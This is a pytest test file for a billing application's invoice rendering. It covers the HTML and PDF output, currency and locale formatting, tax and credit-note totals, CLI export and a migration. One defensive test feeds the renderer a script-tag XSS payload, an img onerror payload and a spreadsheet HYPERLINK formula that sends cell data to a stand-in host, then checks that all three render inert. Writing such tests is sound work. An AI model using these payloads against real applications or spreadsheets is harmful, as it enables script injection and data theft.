"""The invoice document (issue 16, SPEC I10-I17): one template for the invoice page, the HTML
export and the PDF; seller and bill-to blocks; dates, terms and lines as people write them;
amounts for the currency and the tenant's locale; tax summary and totals; hostile names inert.

The PDFs are rendered by WeasyPrint and read back with pypdf: what is checked is the text a
customer's PDF reader shows."""

from __future__ import annotations

import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any, Iterator

import pypdf
import pytest
from sqlalchemy.orm import Session

import factories as f
from conftest import one_error
from w365.billing.invoicing import document
from w365.store.models import Invoice, InvoiceKind, InvoiceLine, InvoiceLineKind, Tenant

NBSP = "\u00a0"


def pdf_text(pdf: bytes) -> str:
    """The PDF's text as a reader extracts it, its no-break spaces as spaces."""
    assert pdf.startswith(b"%PDF-")
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    return "\n".join(page.extract_text() for page in reader.pages).replace(NBSP, " ")


def seller(session: Session, locale: str = "en_US") -> None:
    t = session.get(Tenant, 1)
    assert t is not None
    t.name, t.legal_name, t.tax_id, t.locale = "Contoso", "Contoso Cloud Services LLC", "US-12-3456789", locale
    t.address_line1, t.city, t.region, t.postal_code, t.country = "1 Contoso Way", "Redmond", "WA", "98052", "US"


def invoice(session: Session, number: str, currency: str, lines: list[tuple[Any, ...]], *, customer: str = "Fabrikam",
            issue: date = date(2026, 1, 15), due: date = date(2026, 2, 14), **address: str) -> str:
    """An issued invoice written as the dispatcher writes one. ``lines``: (description, from, to,
    quantity, unit price, days, period days, amount); amounts rounded half-up once (SPEC M2)."""
    cust = f.customer(session, customer, **address)
    c = f.contract(session, cust, start=date(2026, 1, 1), currency=currency, number=f"BC-{number}")
    total = sum((Decimal(l[7]) for l in lines), Decimal(0))
    inv = Invoice(number=number, sequence=900000 + len(number) * 1000 + sum(map(ord, number)), contract_id=c.id, customer_id=cust.id,
                  kind=InvoiceKind.FULL_CYCLE, currency=currency, issue_date=issue, due_date=due,
                  period_from=min(l[1] for l in lines), period_to=max(l[2] for l in lines), total=total)
    session.add(inv)
    session.flush()
    for no, (desc, start, end, qty, price, days, period_days, amount) in enumerate(lines, 1):
        session.add(InvoiceLine(invoice_id=inv.id, line_no=no, kind=InvoiceLineKind.RECURRING, description=desc,
                                billing_period_from=date(2026, 1, 1), billing_period_to=date(2026, 1, 31), period_from=start,
                                period_to=end, quantity=Decimal(qty), unit_price=Decimal(price), days=days, period_days=period_days,
                                proration_factor=(Decimal(days) / Decimal(period_days)).quantize(Decimal("0.0000000001")),
                                amount=Decimal(amount)))
    session.commit()
    return number


JAN15, JAN31, JAN1 = date(2026, 1, 15), date(2026, 1, 31), date(2026, 1, 1)
# 120 seats x $20.00 x 17/31 days = 1,316.129... -> 1,316.13; 2.5 units x $10.17 = 25.425 -> 25.43 (half-up);
# subtotal 1,341.56, no tax, total 1,341.56.
USD_LINES = [("Seats, Jan 15-31", JAN15, JAN31, "120.000000", "20.000000", 17, 31, "1316.13"),
             ("Storage, Jan", JAN1, JAN31, "2.500000", "10.170000", 31, 31, "25.43")]
BERLIN = {"billing_address_line1": "Hauptstraße 5", "billing_address_line2": "3. OG", "billing_city": "Berlin",
          "billing_postal_code": "10115", "billing_country": "DE"}


@pytest.fixture
def usd(store: Any, session: Session) -> str:
    seller(session)
    return invoice(session, "INV-USD1", "USD", USD_LINES, **BERLIN)


def test_i11_i12_i13_usd_pdf_shows_parties_dates_lines_and_totals(store: Any, session: Session, usd: str) -> None:
    """The PDF of a USD invoice for a tenant in en_US: seller with tax ID, bill-to address (a German
    customer: postal code before city, country named in the tenant's language), invoice and due
    dates, net 30 (Jan 15 -> Feb 14), the billing period, each line's period and quantity as people
    write them (no 0.5483870968 factor, no 1.2E+2), amounts in dollars."""
    text = pdf_text(document.render_pdf(f.fresh(session), usd))
    assert "Invoice INV-USD1" in text
    assert "Contoso Cloud Services LLC\n1 Contoso Way\nRedmond, WA 98052\nUnited States\nTax ID: US-12-3456789" in text
    assert "Fabrikam\nHauptstraße 5\n3. OG\n10115 Berlin\nGermany" in text
    assert "Invoice date Jan 15, 2026" in text and "Due date Feb 14, 2026" in text and "Payment terms Net 30 days" in text
    assert "Billing period Jan 1, 2026 – Jan 31, 2026" in text  # the invoice period: its lines span Jan 1-31
    assert "Jan 15, 2026 – Jan 31, 2026\n17 of 31 days\n120 $20.00 $1,316.13" in text
    assert "Jan 1, 2026 – Jan 31, 2026 2.5 $10.17 $25.43" in text
    assert "Subtotal $1,341.56\nTax $0.00\nTotal due $1,341.56" in text
    assert "No tax charged on this invoice." in text
    assert "0.548" not in text and "E+" not in text and "120.000000" not in text


@pytest.mark.parametrize("currency,lines,expected", [
    # 3 x ¥1,234.5 x 17/31 = 2,030.95... -> ¥2,031; 1 x ¥98,000 -> ¥98,000; total ¥100,031 (0 decimals).
    ("JPY", [("Seats", JAN15, JAN31, "3", "1234.5", 17, 31, "2031"), ("Support", JAN1, JAN31, "1", "98000", 31, 31, "98000")],
     ["3 ¥1,234.5 ¥2,031", "1 ¥98,000 ¥98,000", "Subtotal ¥100,031\nTax ¥0\nTotal due ¥100,031"]),
    # 7 x KWD 12.345 x 10/30 = 28.805 exactly; 1 x KWD 1,000.1235 -> 1,000.124 (half-up); total 1,028.929 (3 decimals).
    ("KWD", [("Seats", JAN15, date(2026, 1, 24), "7", "12.345", 10, 30, "28.805"),
             ("Support", JAN1, JAN31, "1", "1000.1235", 31, 31, "1000.124")],
     ["7 KWD 12.345 KWD 28.805", "1 KWD 1,000.1235 KWD 1,000.124", "Subtotal KWD 1,028.929\nTax KWD 0.000\nTotal due KWD 1,028.929"]),
])
def test_i13_pdf_amounts_have_the_currency_minor_units(store: Any, session: Session, currency: str, lines: list[Any],
                                                       expected: list[str]) -> None:
    seller(session)
    number = invoice(session, f"INV-{currency}1", currency, lines)
    text = pdf_text(document.render_pdf(f.fresh(session), number))
    for fragment in expected:
        assert fragment in text, (fragment, text)


def test_i13_de_de_tenant_writes_amounts_and_dates_the_german_way(store: Any, session: Session) -> None:
    """A tenant in de_DE invoicing in EUR: 1.234,56 € (thousands ".", decimals ",", symbol after),
    dates 15.01.2026, a quantity of 2,5; the labels stay English (docs/billing.md)."""
    seller(session, "de_DE")
    number = invoice(session, "INV-EUR1", "EUR", [("Lizenzen", JAN1, JAN31, "2.500000", "493.824000", 31, 31, "1234.56")], **BERLIN)
    text = pdf_text(document.render_pdf(f.fresh(session), number))
    assert "01.01.2026 – 31.01.2026 2,5 493,824 € 1.234,56 €" in text
    assert "Invoice date 15.01.2026" in text and "Due date 14.02.2026" in text
    assert "Subtotal 1.234,56 €\nTax 0,00 €\nTotal due 1.234,56 €" in text
    assert "Deutschland" in text and "Vereinigte Staaten" in text  # countries in the tenant's language


def test_i14_totals_come_from_one_function(store: Any, session: Session, usd: str) -> None:
    """document_totals is the one place tax figures enter the document: an untaxed invoice (no
    line carries a code, as one issued before tax) has subtotal = the sum of the rounded lines
    (1,316.13 + 25.43), no tax, total = subtotal; a figure it returns is what the document shows."""
    s = f.fresh(session)
    inv = document.load_invoice(s, usd)
    assert document.document_totals(s, inv) == {"subtotal": Decimal("1341.56"), "taxes": [], "tax_total": Decimal("0.00"),
                                                 "total": Decimal("1341.56")}
    ctx = document.invoice_document_context(s, inv)
    assert (ctx["subtotal"], ctx["tax_total"], ctx["total"], ctx["taxes"]) == ("$1,341.56", "$0.00", "$1,341.56", [])


def test_i14_a_tax_returned_by_the_totals_function_is_summarised(store: Any, session: Session, usd: str,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever tax document_totals returns, the tax summary and the totals show it (the template
    takes no figure from elsewhere): 19 % of 1,341.56 = 254.8964 -> 254.90; total 1,596.46."""
    def taxed(session: Session, invoice: Invoice) -> dict[str, Any]:
        return {"subtotal": Decimal("1341.56"), "tax_total": Decimal("254.90"), "total": Decimal("1596.46"),
                "taxes": [{"name": "VAT", "rate": Decimal("0.19"), "base": Decimal("1341.56"), "amount": Decimal("254.90")}]}

    monkeypatch.setattr(document, "document_totals", taxed)
    html = document.render_html(f.fresh(session), usd)
    assert re.search(r"<td>VAT</td><td class=\"n\">19%</td><td class=\"n\">\$1,341.56</td><td class=\"n\">\$254.90</td>", html)
    assert '<td class="n" id="tax-total">$254.90</td>' in html and '<td class="n" id="total-due">$1,596.46</td>' in html
    assert "No tax charged" not in html


# ------------------------------------------------------------------------------ tax and credit notes (SPEC I4, I6, I14)


def taxed_december(session: Session) -> Any:
    """The customer is VAT20 (20 %); product B overrides it with REDUCED (5 %). December, monthly,
    from Dec 1; subscription A: 10 x 10.00, B: 3 x 11.11, A's QRB allows a refund."""
    from w365.billing.tax_codes import add_tax_rate
    from w365.store.models import QRB

    seller(session)
    add_tax_rate(session, "VAT20", "20", date(2025, 1, 1), "VAT 20 %")
    add_tax_rate(session, "REDUCED", "5", date(2025, 1, 1), "Reduced 5 %")
    c = f.contract(session, f.customer(session, tax_code="VAT20", **BERLIN), start=date(2025, 12, 1), refunds_allowed=True)
    a = f.subscription(session, c, name="A", quantity=10, price="10.00", qrb=QRB.ALLOWED)
    b_product = f.product(session, sku="SKU-B")
    b_product.tax_code = "REDUCED"
    f.subscription(session, c, name="B", quantity=3, price="11.11", prod=b_product)
    session.commit()
    return a


def test_i4_i14_pdf_of_an_invoice_with_two_tax_codes_shows_each_tax_and_the_totals(store: Any, session: Session) -> None:
    """SPEC I4, I14: December billed Dec 1 by the engine:
      A: 10 x 10.00 = 100.00 at VAT20 20 %   -> 20.00
      B:  3 x 11.11 =  33.33 at REDUCED 5 %  ->  1.6665 -> 1.67 (half-up, once per line)
      subtotal 133.33, tax 21.67, total 155.00.
    The PDF shows each line's rate, code and tax, one summary row per code (name, rate, taxable
    amount, tax) and the stored totals; document_totals returns exactly those Decimals."""
    from w365.billing.invoicing.dispatcher import generate_full_cycle_invoices

    taxed_december(session)
    [inv] = generate_full_cycle_invoices("monthly", date(2025, 12, 1), engine=store.engine).invoices
    assert inv.number == "INV-000001"
    s = f.fresh(session)
    assert document.document_totals(s, document.load_invoice(s, "INV-000001")) == {
        "subtotal": Decimal("133.33"), "tax_total": Decimal("21.67"), "total": Decimal("155.00"),
        "taxes": [{"name": "VAT 20 % (VAT20)", "rate": Decimal("0.2"), "base": Decimal("100.00"), "amount": Decimal("20.00")},
                  {"name": "Reduced 5 % (REDUCED)", "rate": Decimal("0.05"), "base": Decimal("33.33"), "amount": Decimal("1.67")}]}
    text = pdf_text(document.render_pdf(s, "INV-000001"))
    assert "Invoice INV-000001" in text and "Credit note" not in text
    assert "10 $10.00 20%\nVAT20 · $20.00\n$100.00" in text  # line A: quantity, unit price, tax, amount
    assert "3 $11.11 5%\nREDUCED · $1.67\n$33.33" in text
    assert "VAT 20 % (VAT20) 20% $100.00 $20.00" in text
    assert "Reduced 5 % (REDUCED) 5% $33.33 $1.67" in text
    assert "Subtotal $133.33\nTax $21.67\nTotal due $155.00" in text
    assert "No tax charged" not in text


def test_i6_i14_a_credit_notes_pdf_says_credit_note_and_names_the_invoice_it_corrects(store: Any, session: Session) -> None:
    """SPEC I5, I6, I14: December billed Dec 1 on INV-000001 (above: 155.00); subscription A
    cancelled with refund on Dec 10. The change-log run of Dec 11 issues CN-000001, correcting
    INV-000001:
      A reversed:      -100.00 at 20 % -> -20.00
      A Dec 1-10:  100.00 x 10/31 = 32.258... -> 32.26 at 20 % -> 6.452 -> 6.45
      subtotal -67.74, tax -13.55, total -81.29.
    Its PDF is titled "Credit note CN-000001", names INV-000001, shows the tax and a total credit,
    and asks for no payment (no due date, no "please pay")."""
    from datetime import datetime, timezone

    from w365.billing.changes import ChangeRequest, change_subscription
    from w365.billing.invoicing.dispatcher import generate_change_log_invoices, generate_full_cycle_invoices

    a = taxed_december(session)
    generate_full_cycle_invoices("monthly", date(2025, 12, 1), engine=store.engine)
    change_subscription(session, a.id, ChangeRequest(action="deactivate", apply_refund=True), now=datetime(2025, 12, 10, tzinfo=timezone.utc))
    session.commit()
    [cn] = generate_change_log_invoices("monthly", date(2025, 12, 11), engine=store.engine).invoices
    assert (cn.number, cn.document) == ("CN-000001", "credit_note")
    s = f.fresh(session)
    totals = document.document_totals(s, document.load_invoice(s, "CN-000001"))
    assert (totals["subtotal"], totals["tax_total"], totals["total"]) == (Decimal("-67.74"), Decimal("-13.55"), Decimal("-81.29"))
    text = pdf_text(document.render_pdf(s, "CN-000001"))
    assert "Credit note CN-000001\nCorrects invoice INV-000001" in text
    assert "Credit note date Dec 11, 2025" in text and "Corrected invoice INV-000001" in text
    assert "VAT 20 % (VAT20) 20% -$67.74 -$13.55" in text
    assert "Subtotal -$67.74\nTax -$13.55\nTotal credit -$81.29" in text
    assert "Due date" not in text and "Please pay" not in text and "Total due" not in text
    assert "This credit note corrects invoice INV-000001. Please quote CN-000001" in text.replace("\n", " ")


def test_i2_i14_an_exempt_customers_document_carries_the_reference(store: Any, session: Session) -> None:
    """SPEC I2, I14: an exempt customer's lines carry no code: no Tax column, no summary row, the
    document prints the exemption reference instead of "No tax charged"."""
    from w365.billing.invoicing.dispatcher import generate_full_cycle_invoices
    from w365.billing.tax_codes import add_tax_rate

    seller(session)
    add_tax_rate(session, "VAT20", "20", date(2025, 1, 1))
    c = f.contract(session, f.customer(session, tax_code="VAT20", tax_exempt_reference="EXEMPT-CHARITY-42"), start=date(2025, 12, 1))
    f.subscription(session, c, quantity=10, price="10.00")
    session.commit()
    [inv] = generate_full_cycle_invoices("monthly", date(2025, 12, 1), engine=store.engine).invoices
    html = document.render_html(f.fresh(session), inv.number)
    assert '<p id="tax-exempt">Tax exempt: EXEMPT-CHARITY-42</p>' in html
    assert "No tax charged" not in html and '<th class="n">Tax</th>' not in html and 'class="taxes"' not in html
    assert '<td class="n" id="tax-total">$0.00</td>' in html and '<td class="n" id="total-due">$100.00</td>' in html


def test_i10_page_export_and_pdf_come_from_one_template(store: Any, session: Session, usd: str,
                                                       probe_document_template: Any) -> None:
    """A field added to templates/invoice_document.html appears in the HTML export, in the
    fragment the invoice page shows, and in the PDF: there is no second template to forget."""
    probe_document_template('<p id="probe">PO reference PROBE-{{ doc.number }}</p>\n')
    s = f.fresh(session)
    assert '<p id="probe">PO reference PROBE-INV-USD1</p>' in document.render_html(s, usd)
    assert '<p id="probe">PO reference PROBE-INV-USD1</p>' in document.render_fragment(s, usd)
    assert "PO reference PROBE-INV-USD1" in pdf_text(document.render_pdf(s, usd))
    # The page's fragment is the export's <article>, without the page-breaking <html> and <style>.
    s = f.fresh(session)
    fragment, html = str(document.render_fragment(s, usd)), document.render_html(s, usd)
    assert fragment.strip() in html and "<style" not in fragment and "<html" not in fragment


HOSTILE = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


def test_i16_hostile_names_render_inert(store: Any, session: Session) -> None:
    """A customer called <script>..., an address that is an <img onerror=...>, a line that is a
    spreadsheet formula: the HTML shows them as text (escaped), the PDF as text, with no link,
    script or action in it."""
    seller(session)
    number = invoice(session, "INV-EVIL", "USD", [(FORMULA, JAN1, JAN31, "1", "10", 31, 31, "10.00")], customer=HOSTILE,
                     billing_address_line1='<img src=x onerror="alert(2)">', billing_city="Springfield", billing_country="US")
    s = f.fresh(session)
    html = document.render_html(s, number)
    assert "<script>" not in html and "<img" not in html and "onerror=" not in html.replace("onerror=&#34;", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;img src=x onerror=&#34;alert(2)&#34;&gt;" in html
    assert "=HYPERLINK(&#34;http://evil.example/?q=&#34;&amp;A1,&#34;Click&#34;)" in html
    pdf = document.render_pdf(s, number)
    text = pdf_text(pdf)
    assert HOSTILE in text and '<img src=x onerror="alert(2)">' in text
    assert FORMULA in text.replace("\n", "")  # text, wrapped in its cell
    for action in (b"/JavaScript", b"/JS", b"/URI", b"/Launch", b"/OpenAction", b"/Annots"):
        assert action not in pdf, action


def test_i11_empty_addresses_still_render(store: Any, session: Session) -> None:
    """A store from before issue 16 (no addresses, no tax ID): the tenant's name is the seller,
    the customer's name the bill-to, and nothing reads "None"."""
    number = invoice(session, "INV-BARE", "USD", [("Seats", JAN1, JAN31, "1", "10", 31, 31, "10.00")])
    html = document.render_html(f.fresh(session), number)
    assert re.search(r'<section class="party" id="seller">\s*<h2>From</h2>\s*<address><strong>default</strong></address>\s*</section>', html)
    assert "<address><strong>Fabrikam</strong></address>" in html and "None" not in html and "Tax ID" not in html


def test_i10_the_template_ships_with_the_package() -> None:
    """`pip install .` ships the document's template and style sheet: pyproject's package data
    for w365.billing.invoicing matches every file in templates/."""
    import fnmatch
    import tomllib

    pyproject = tomllib.loads((Path(__file__).resolve().parents[2] / "pyproject.toml").read_text())
    globs = pyproject["tool"]["setuptools"]["package-data"]["w365.billing.invoicing"]
    files = sorted(p.relative_to(document.TEMPLATES.parent).as_posix() for p in document.TEMPLATES.iterdir())
    assert files == ["templates/invoice_document.css", "templates/invoice_document.html"]
    assert all(any(fnmatch.fnmatch(name, g) for g in globs) for name in files)


def test_i15_weasyprint_is_imported_only_to_render_a_pdf() -> None:
    """The document module, the CLI, the pages' app and the DAG glue import without WeasyPrint
    (and its Pango): it is loaded inside render_pdf, never when Airflow parses DAGs or plugins."""
    import subprocess
    import sys

    program = ("import sys; import w365.billing.invoicing.document, w365.interfaces.cli, w365.interfaces.web.app, "
               "w365.orchestration.airflow_support; print(sorted(m for m in sys.modules if m.split('.')[0] in ('weasyprint', 'pydyf')))")
    run = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=300, check=False)
    assert run.returncode == 0, run.stderr[-2000:]
    assert run.stdout.strip().splitlines()[-1] == "[]"  # (Airflow may log a warning first)


def test_i15_the_pdf_renderer_fetches_nothing(tmp_path: Path) -> None:
    """Defence in depth behind the escaping (I16): even HTML that names a local image or a remote
    style sheet renders without loading them (no file:, http: or data: URL is fetched)."""
    from PIL import Image

    image = tmp_path / "secret.png"
    Image.new("RGB", (40, 40), "red").save(image)
    with_image = (f'<p>x</p><img src="{image.as_uri()}"><img src="data:image/png;base64,iVBORw0KGgo=">'
                  '<link rel="stylesheet" href="http://127.0.0.1:9/evil.css">')
    pdf = document.html_to_pdf(with_image)
    assert pdf.startswith(b"%PDF-") and b"/Image" not in pdf
    assert b"/Image" in _pdf_with_fetching(f'<p>x</p><img src="{image.as_uri()}">')  # the probe would show an image


def _pdf_with_fetching(html: str) -> bytes:
    from weasyprint import HTML

    return bytes(HTML(string=html).write_pdf())


# ------------------------------------------------------------------------------ the CLI


@pytest.fixture
def cli(root_logging: None) -> Iterator[Any]:
    from w365.interfaces.cli import main

    yield main


def test_i15_cli_exports_a_valid_pdf(store: Any, session: Session, usd: str, cli: Any, tmp_path: Path,
                                     monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """`w365 invoice export N --format pdf` writes NUMBER.pdf (or -o FILE), a PDF pypdf reads with
    the invoice in it; an unknown invoice is one error line and no file."""
    monkeypatch.chdir(tmp_path)
    assert cli(["invoice", "export", usd, "--format", "pdf"]) == 0
    out = capsys.readouterr()
    assert (out.out, out.err) == ("wrote INV-USD1.pdf\n", "")  # and no font-subsetting warning on every run
    pdf = (tmp_path / "INV-USD1.pdf").read_bytes()
    text = pdf_text(pdf)
    assert "Invoice INV-USD1" in text and "Total due $1,341.56" in text
    assert len(pypdf.PdfReader(io.BytesIO(pdf)).pages) == 1 and not list(tmp_path.glob("*.part"))
    assert cli(["invoice", "export", "INV-NOPE", "--format", "PDF", "-o", str(tmp_path / "nope.pdf")]) == 2
    assert one_error(capsys) == "error: no invoice 'INV-NOPE'"
    assert not (tmp_path / "nope.pdf").exists()


def test_i15_cli_html_export_is_the_document(store: Any, session: Session, usd: str, cli: Any,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(["invoice", "export", usd, "--format", "html"]) == 0
    out = capsys.readouterr().out
    assert out == document.render_html(f.fresh(session), usd)


def test_i17_tenant_set_takes_the_seller_block_and_locale(store: Any, session: Session, cli: Any,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(["tenant", "set", "--legal-name", "Contoso Cloud GmbH", "--address-line1", "Unter den Linden 1", "--city", "Berlin",
                "--postal-code", "10117", "--country", "de", "--tax-id", "DE123456789", "--locale", "de-DE"]) == 0
    capsys.readouterr()
    t = f.fresh(session).get(Tenant, 1)
    assert t is not None
    assert (t.legal_name, t.address_line1, t.city, t.postal_code, t.country, t.tax_id, t.locale, t.address_line2) == \
        ("Contoso Cloud GmbH", "Unter den Linden 1", "Berlin", "10117", "DE", "DE123456789", "de_DE", None)
    assert cli(["tenant", "set", "--tax-id", ""]) == 0  # '' clears an optional field
    assert f.fresh(session).get(Tenant, 1).tax_id is None  # type: ignore[union-attr]
    capsys.readouterr()
    assert cli(["tenant", "set", "--country", "Germany"]) == 2
    assert one_error(capsys) == ("error: argument --country: 'Germany' is not an ISO 3166 two-letter country code (e.g. US, DE, GB, JP) "
                                 "(see `w365 tenant set --help`)")
    assert cli(["tenant", "set", "--locale", "klingon"]) == 2
    assert one_error(capsys) == "error: argument --locale: 'klingon' is not a locale: write it like en_US or de_DE (see `w365 tenant set --help`)"
    assert f.fresh(session).get(Tenant, 1).country == "DE"  # type: ignore[union-attr]


# ------------------------------------------------------------------------------ migration 0005


def test_i17_migration_0005_adds_columns_only_and_downgrades(store: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """issue 16 (migration 0005): a store from the revision before, with a tenant, a customer and
    an issued invoice, is upgraded by adding columns only: every existing row keeps its values,
    the new address columns are empty, the tenant's locale is en_US, and the invoice renders with
    the tenant's name as seller (at the head). The downgrade drops the columns and leaves the rows
    as they were; upgrading again works."""
    import os

    from alembic import command
    from alembic.script import ScriptDirectory
    from sqlalchemy import MetaData, select, text

    from conftest import PG_ENV, Store
    from w365 import store as w365_store
    from w365.store.admin import create_scratch_database, drop_database
    from w365.store.session import get_engine

    url = create_scratch_database(os.environ[PG_ENV], "w365_test_0005") if store.is_postgres else f"sqlite:///{tmp_path / 'old.db'}"
    monkeypatch.setenv("W365_DATABASE_URL", url)
    engine = get_engine(url)
    previous = ScriptDirectory.from_config(w365_store.alembic_config(url)).get_revision("0005").down_revision
    assert isinstance(previous, str)

    def rows(conn: Any) -> dict[str, list[Any]]:
        meta = MetaData()
        meta.reflect(conn, only=["tenant", "customer", "billing_contract", "invoice", "invoice_line"])
        return {name: [dict(r._mapping) for r in conn.execute(select(t).order_by(*t.primary_key.columns))]
                for name, t in meta.tables.items()}

    try:
        w365_store.upgrade(url, previous)
        with engine.begin() as conn:  # raw SQL: the models are at the head
            conn.execute(text("INSERT INTO customer (name, email, created_at) VALUES ('Fabrikam', 'ap@fabrikam.example', '2026-01-01 00:00:00')"))
            conn.execute(text("INSERT INTO billing_contract (number, customer_id, frequency, currency, start_date, auto_renew, refunds_allowed, "
                              "change_billing, status, price_list, payment_terms_days, created_at) VALUES ('BC-1', 1, 'MONTHLY', 'USD', "
                              "'2026-01-01', true, false, 'immediate', 'active', 'default', 30, '2026-01-01 00:00:00')"))
            conn.execute(text("INSERT INTO invoice (number, sequence, contract_id, customer_id, kind, currency, issue_date, due_date, period_from, "
                              "period_to, total, payment_status, amount_paid, created_at) VALUES ('INV-000001', 1, 1, 1, 'full_cycle', 'USD', "
                              "'2026-01-01', '2026-01-31', '2026-01-01', '2026-01-31', '60.00', 'unpaid', '0', '2026-01-01 00:00:00')"))
            conn.execute(text("INSERT INTO invoice_line (invoice_id, line_no, kind, description, billing_period_from, billing_period_to, "
                              "period_from, period_to, quantity, unit_price, days, period_days, proration_factor, amount) VALUES (1, 1, "
                              "'recurring', 'Seats', '2026-01-01', '2026-01-31', '2026-01-01', '2026-01-31', '6', '10', 31, 31, '1', '60.00')"))
        with engine.connect() as conn:
            before = rows(conn)

        w365_store.upgrade(url, "0005")
        with engine.connect() as conn:
            after = rows(conn)
        added_tenant = {"legal_name", "address_line1", "address_line2", "city", "postal_code", "region", "country", "tax_id", "locale"}
        added_customer = {"billing_address_line1", "billing_address_line2", "billing_city", "billing_postal_code", "billing_region",
                          "billing_country"}
        for table in ("billing_contract", "invoice", "invoice_line"):
            assert after[table] == before[table], table  # existing invoices do not change
        assert [{k: v for k, v in r.items() if k not in added_tenant} for r in after["tenant"]] == before["tenant"]
        assert [{k: r[k] for k in added_tenant} for r in after["tenant"]] == [{**dict.fromkeys(added_tenant), "locale": "en_US"}]
        assert [{k: v for k, v in r.items() if k not in added_customer} for r in after["customer"]] == before["customer"]
        assert all(r[k] is None for r in after["customer"] for k in added_customer)
        cfg = w365_store.alembic_config(url)
        with engine.begin() as conn:
            cfg.attributes["connection"] = conn
            command.downgrade(cfg, previous)
        assert w365_store.current_revision(url) == previous
        with engine.connect() as conn:
            assert rows(conn) == before
        w365_store.upgrade(url)
        assert w365_store.current_revision(url) == w365_store.head_revision()
        # Rendered at the head (the models are the head's: 0006 adds the invoice's tax columns).
        with Store(store.backend, url, engine).session() as s:
            html = document.render_html(s, "INV-000001")
        assert "<address><strong>default</strong></address>" in html and '<td class="n amount">$60.00</td>' in html
    finally:
        engine.dispose()
        if store.is_postgres:
            drop_database(url)
